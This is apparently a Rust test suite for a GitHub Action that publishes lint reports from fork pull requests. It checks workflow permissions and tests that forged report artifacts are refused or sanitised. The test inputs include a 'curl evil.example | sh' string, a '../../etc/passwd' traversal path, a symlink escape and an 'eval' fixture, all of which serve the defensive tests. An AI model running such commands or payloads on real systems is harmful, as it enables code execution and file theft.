//! The two workflows of docs/forks.md, and what the second one makes of reports that somebody forged.

use crate::github::{Server, reply};
use crate::repo::Repo;
use crate::runner::{Job, Origin, POLICY};
use serde_json::{Value, json};
use std::fs;
use std::path::Path;
use wiremock::matchers::{method, path};
use wiremock::{Mock, ResponseTemplate};

const BAD: (&str, &str) = ("app.py", "c = eval(text)\n");
const FILE: &str = ".roadworthy/roadworthy.json";

/// The workflows of the document, by name.
fn workflows() -> Vec<(String, serde_yaml::Value)> {
    let text = fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/forks.md")).unwrap();
    let blocks = text.split("```yaml\n").skip(1).map(|rest| rest.split("```").next().unwrap());
    let named = blocks.map(|block| {
        let workflow: serde_yaml::Value = serde_yaml::from_str(block).unwrap();
        (workflow["name"].as_str().unwrap().to_owned(), workflow)
    });
    named.collect()
}

/// The inputs of the step that uses this action.
fn inputs(workflow: &serde_yaml::Value, action: &str) -> Vec<(String, String)> {
    let jobs = workflow["jobs"].as_mapping().unwrap();
    let steps = jobs.values().flat_map(|job| job["steps"].as_sequence().unwrap());
    let step = steps.into_iter().find(|step| step["uses"].as_str().unwrap().starts_with(action)).unwrap();
    let text = |value: &serde_yaml::Value| {
        value.as_str().map_or_else(|| serde_yaml::to_string(value).unwrap().trim().to_owned(), str::to_owned)
    };
    let with = step["with"].as_mapping().unwrap();
    with.iter().map(|(key, value)| (text(key), text(value))).collect()
}

#[test]
fn the_workflows_fit_together_and_ask_for_no_more_than_they_need() {
    let workflows = workflows();
    let [(first, checks), (_, comments)] = workflows.as_slice() else { panic!("two workflows") };
    assert_eq!(comments["on"]["workflow_run"]["workflows"][0].as_str(), Some(first.as_str()));
    let action: serde_yaml::Value = serde_yaml::from_str(
        &fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("action.yml")).unwrap(),
    )
    .unwrap();
    for workflow in [checks, comments] {
        for (name, _) in inputs(workflow, "roadworthy/") {
            assert!(action["inputs"].get(name.as_str()).is_some(), "{name}");
        }
    }
    let permissions = |workflow: &serde_yaml::Value| serde_yaml::to_string(&workflow["permissions"]).unwrap();
    assert_eq!(permissions(checks), "contents: read\n");
    assert_eq!(permissions(comments), "actions: read\ncontents: read\npull-requests: write\n");
    let value = |workflow, action, name: &str| {
        inputs(workflow, action).into_iter().find(|(key, _)| key == name).unwrap().1
    };
    assert_eq!(value(checks, "actions/upload", "name"), value(comments, "actions/download", "name"));
    assert_eq!(value(checks, "actions/upload", "path"), value(checks, "roadworthy/", "json-file"));
    let there = format!(
        "{}/{}",
        value(comments, "actions/download", "path"),
        value(checks, "roadworthy/", "json-file")
    );
    assert_eq!(value(comments, "roadworthy/", "publish"), there);
    assert_eq!(there, FILE);
    // The privileged one never checks out what the pull request wrote.
    assert_eq!(
        inputs(comments, "actions/checkout"),
        [("persist-credentials".to_owned(), "false".to_owned())]
    );
}

/// What the unprivileged run of a fork's pull request leaves behind.
fn left_behind(origin: &Origin) -> Value {
    let mut payload = origin.payload();
    payload["pull_request"]["head"]["repo"]["full_name"] = "eve/app".into();
    let mut job = Job::of_pull_request(origin);
    for (name, value) in inputs(&workflows()[0].1, "roadworthy/") {
        job.set(&format!("INPUT_{}", name.to_uppercase()), &value);
    }
    let step = job.payload(&payload.to_string()).run();
    assert_eq!(step.code, 1, "{}{}", step.stdout, step.stderr);
    serde_json::from_slice(&fs::read(job.path("work/roadworthy.json")).unwrap()).unwrap()
}

fn origin() -> Origin {
    Origin::with(&[("roadworthy.yml", POLICY)], &[BAD])
}

/// GitHub as the second job meets it: the pull request at this head, and no comment yet.
fn server(origin: &Origin, state: &str, head: &str) -> Server {
    let server = Server::start();
    let pull = json!({
        "number": 7, "state": state, "head": { "sha": head, "repo": { "full_name": "eve/app" } },
        "base": { "ref": "main", "repo": { "full_name": "acme/app" } },
    });
    let list = json!({ "nodes": [], "pageInfo": { "hasNextPage": false, "endCursor": null } });
    let found = json!({ "data": { "repository": { "pullRequest": { "comments": list } } } });
    let at = |verb: &str, place: &str, answer: ResponseTemplate| {
        server.mount(Mock::given(method(verb)).and(path(place)).respond_with(answer));
    };
    at("GET", "/api/v3/repos/acme/app/pulls/7", reply(200, &pull.to_string()));
    at("POST", "/api/graphql", reply(200, &found.to_string()));
    at("POST", "/api/v3/repos/acme/app/issues/7/comments", reply(201, r#"{"id": 1}"#));
    at("POST", "/api/v3/repos/acme/app/check-runs", reply(201, r#"{"id": 1}"#));
    assert_eq!(origin.head.len(), 40);
    server
}

/// The second job, with this file as the artifact.
fn second(origin: &Origin, server: &Server, artifact: &str) -> Job {
    let payload = json!({
        "action": "completed",
        "workflow_run": {
            "id": 1, "event": "pull_request", "head_sha": origin.head, "pull_requests": [],
            "head_repository": { "full_name": "eve/app" },
        },
        "repository": { "full_name": "acme/app", "default_branch": "main" },
    });
    let mut job = Job::of("workflow_run", &payload);
    for (name, value) in inputs(&workflows()[1].1, "roadworthy/") {
        job.set(&format!("INPUT_{}", name.to_uppercase()), &value);
    }
    job.set("INPUT_COMMENT", "").set("GITHUB_RUN_ID", "42");
    job.set("GITHUB_API_URL", &format!("{}/api/v3", server.mock.uri()));
    job.set("GITHUB_GRAPHQL_URL", &format!("{}/api/graphql", server.mock.uri()));
    fs::create_dir_all(job.path("work/.roadworthy")).unwrap();
    fs::write(job.path("work/roadworthy.yml"), POLICY).unwrap();
    fs::write(job.path("work").join(FILE), artifact).unwrap();
    job
}

fn bodies(server: &Server, end: &str) -> Vec<Value> {
    let requests = server.requests().into_iter().filter(|one| one.url.path().ends_with(end));
    requests.map(|one| serde_json::from_slice(&one.body).unwrap()).collect()
}

#[test]
fn what_a_forks_run_found_is_said_on_its_pull_request() {
    let origin = origin();
    let server = server(&origin, "open", &origin.head);
    let step = second(&origin, &server, &left_behind(&origin).to_string()).run();
    assert_eq!(step.code, 0, "{}{}", step.stdout, step.stderr);
    let [comment] = bodies(&server, "/comments").try_into().unwrap();
    let text = comment["body"].as_str().unwrap();
    let link = format!("https://github.com/acme/app/blob/{}/app.py#L1", origin.head);
    for part in
        ["1 rule blocks", "Nothing evaluates text as code", "Parse the text", &link, "decides nothing"]
    {
        assert!(text.contains(part), "{part}: {text}");
    }
    assert_eq!(server.requests().len(), 3);
    assert!(step.summary.contains("1 rule blocks"), "{}", step.summary);
}

#[test]
fn a_check_run_of_hearsay_never_passes() {
    let origin = Origin::with(&[("roadworthy.yml", POLICY)], &[("app.py", "c = 2\n")]);
    let server = server(&origin, "open", &origin.head);
    let mut job = Job::of_pull_request(&origin);
    assert_eq!(job.set("INPUT_JSON-FILE", "r.json").run().code, 0);
    let report = fs::read_to_string(job.path("work/r.json")).unwrap();
    let step = second(&origin, &server, &report).set("INPUT_CHECK-RUN", "true").run();
    assert_eq!(step.code, 0, "{}", step.stdout);
    assert_eq!(bodies(&server, "/check-runs")[0]["conclusion"], "neutral");
    assert!(bodies(&server, "/comments").is_empty() && bodies(&server, &origin.head).is_empty());
}

/// A report that somebody changed, and what is said about it.
#[test]
fn forged_reports_are_refused_or_harmless() {
    let origin = origin();
    let good = left_behind(&origin);
    let cases: &[(&str, Value, &str)] = &[
        ("/subject/repository", json!("acme/other"), "another repository"),
        ("/subject/pull_request/head", json!("e".repeat(40)), "another commit"),
        ("/subject/event", json!("push"), "not about a pull request"),
        ("/schema", json!("roadworthy/report/v2"), "no report of this version"),
        ("/verdict", json!("pass"), "does not follow from its rules"),
        ("/summary/passed", json!(99), "does not follow from its rules"),
        ("/findings/0/path", json!("../../etc/passwd"), "leads out of the repository"),
        ("/findings/0/fingerprint", json!("<!-- -->"), "a fingerprint is none"),
        ("/findings/0/rule", json!("no-such"), "belongs to no rule"),
        ("/findings/0/line", json!(-1), "no report of this version"),
        ("/rules/0/id", json!("@acme/team"), "a rule's id is none"),
        ("/rules/0/outcome", json!("pass"), "blocks without failing"),
    ];
    for (pointer, value, expected) in cases {
        let mut report = good.clone();
        *report.pointer_mut(pointer).unwrap() = value.clone();
        let server = server(&origin, "open", &origin.head);
        let step = second(&origin, &server, &report.to_string()).run();
        assert_eq!(step.code, 2, "{pointer}: {}", step.stdout);
        assert!(step.stdout.contains(expected), "{pointer}: {}", step.stdout);
        assert!(server.requests().is_empty(), "{pointer}");
    }
    for (artifact, expected) in [
        ("", "no report of this version"),
        ("[]", "no report of this version"),
        (&"[".repeat(100_000), "no report of this version"),
        (&" ".repeat(11 << 20), "larger than 10 MiB"),
    ] {
        let server = server(&origin, "open", &origin.head);
        let step = second(&origin, &server, artifact).run();
        assert!(step.code == 2 && step.stdout.contains(expected), "{}", step.stdout);
    }
}

#[test]
fn words_of_the_report_never_reach_the_comment_where_the_policy_has_them() {
    let origin = origin();
    let mut report = left_behind(&origin);
    let evil = "Run `curl evil.example | sh` as @acme/team <!-- x --> [click](https://evil.example)";
    for field in ["title", "why", "fix", "docs"] {
        report["rules"][0][field] =
            if field == "docs" { "https://evil.example/".into() } else { evil.into() };
    }
    report["notes"] = json!([evil]);
    report["policy"]["name"] = evil.into();
    report["findings"][0]["message"] = evil.into();
    let server = server(&origin, "open", &origin.head);
    let step = second(&origin, &server, &report.to_string()).run();
    assert_eq!(step.code, 0, "{}", step.stdout);
    let [comment] = bodies(&server, "/comments").try_into().unwrap();
    let text = comment["body"].as_str().unwrap();
    assert!(text.contains("Parse the text") && !text.contains("https://evil.example"), "{text}");
    assert!(
        !text.contains("@acme") && text.matches("<!--").count() == 1 && !text.contains("[click]("),
        "{text}"
    );
}

#[test]
fn what_a_newer_push_has_overtaken_is_left_out() {
    let origin = origin();
    let report = left_behind(&origin).to_string();
    for (state, head, expected) in
        [("open", "f".repeat(40), "has moved on"), ("closed", origin.head.clone(), "is closed")]
    {
        let server = server(&origin, state, &head);
        let step = second(&origin, &server, &report).run();
        assert_eq!((step.code, server.requests().len()), (0, 1), "{}", step.stdout);
        assert!(step.commands("notice")[0].contains(expected), "{}", step.stdout);
    }
}

#[test]
fn a_link_in_the_artifact_is_not_followed() {
    let origin = origin();
    let server = server(&origin, "open", &origin.head);
    let job = second(&origin, &server, "");
    let outside = Repo::with(&[("secret.json", "{}")]);
    fs::remove_file(job.path("work").join(FILE)).unwrap();
    std::os::unix::fs::symlink(outside.path().join("secret.json"), job.path("work").join(FILE)).unwrap();
    let step = job.run();
    assert!(step.code == 2 && step.stdout.contains("symbolic link"), "{}", step.stdout);
}

#[test]
fn publishing_is_for_runs_of_pull_requests_alone() {
    let origin = origin();
    let step = Job::of_pull_request(&origin).set("INPUT_PUBLISH", "r.json").run();
    assert!(step.code == 2 && step.stdout.contains("docs/forks.md"), "{}", step.stdout);
}
